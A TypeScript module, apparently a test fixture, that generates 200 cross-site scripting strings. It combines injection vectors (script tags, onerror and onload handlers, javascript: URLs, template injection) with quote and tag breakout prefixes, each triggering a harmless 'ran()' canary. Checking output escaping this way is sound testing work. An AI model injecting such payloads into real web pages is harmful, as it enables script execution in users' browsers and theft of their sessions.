/** The function that a page would call if one of the strings ran. */
export const alarm = 'ran()';

/** Ways out of where text stands: elements, attributes in either quotes, raw text, comments, templates. */
const waysOut = ['', '">', "'>", '</textarea>', '</title>', '</style>', '</script>', '-->', '`">', '\u2028\\">'];

const scripts = [
  `<script>${alarm}</script>`,
  `<img src=x onerror=${alarm}>`,
  `<svg onload=${alarm}>`,
  `<svg><script>${alarm}</script>`,
  `<body onload=${alarm}>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>">`,
  `<a href="javascript:${alarm}">x</a>`,
  `<details open ontoggle=${alarm}>`,
  `<input autofocus onfocus=${alarm}>`,
  `<video><source onerror=${alarm}>`,
  `<math><mi xlink:href="javascript:${alarm}">`,
  `<object data="javascript:${alarm}">`,
  `<style>@import'javascript:${alarm}'</style>`,
  `<link rel=stylesheet href=javascript:${alarm}>`,
  `<meta http-equiv=refresh content=0;javascript:${alarm}>`,
  `<form action=javascript:${alarm}><input type=submit>`,
  `" onmouseover=${alarm} x="`,
  `javascript:${alarm}//`,
  `{{constructor.constructor('${alarm}')()}}`,
  `\${${alarm}}<%=${alarm}%>`,
];

/** 200 strings that run where text is written into a page without care; each fits into the shortest field, 60 characters. */
export const scriptStrings: string[] = scripts.flatMap((script) =>
  waysOut.map((out) => (out.length + script.length <= 60 ? out + script : out + script.slice(0, 60 - out.length))),
);
